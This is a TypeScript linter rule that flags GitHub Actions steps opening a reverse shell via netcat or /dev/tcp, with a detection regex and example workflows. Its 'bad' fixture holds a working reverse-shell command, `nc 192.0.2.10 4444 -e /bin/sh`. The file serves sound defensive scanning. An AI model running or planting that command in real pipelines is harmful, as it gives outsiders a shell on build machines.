import { pass } from '../check.ts';
import { failAt, stepCheck } from '../on-github.ts';

const form = /\b(?:nc|ncat|netcat)\b[^\n]*\s\d{1,3}(?:\.\d{1,3}){3}\b|\/dev\/(?:tcp|udp)\/\S+\/\d+/;

export const check = stepCheck({
  id: 'github-deploy/reverse-shell',
  title: 'No script opens a shell to an address',
  severity: 'high',
  why: 'A netcat to an address, or `/dev/tcp`, is how a job is handed to somebody outside',
  fix: 'Remove it, and find out who brought it in; use `curl` where it is a test of an own service',
  controls: ['CKV_GHA_4'],
  judge({ step: { run } }) {
    if (!run) return undefined;
    return form.test(run.value)
      ? failAt(run.place, 'the script connects a program to an address by netcat or /dev/tcp')
      : pass;
  },
  examples: {
    bad: [
      'on: push\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: nc 192.0.2.10 4444 -e /bin/sh\n',
    ],
    good: [
      'on: push\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: curl --fail http://192.0.2.10/health\n',
    ],
  },
});
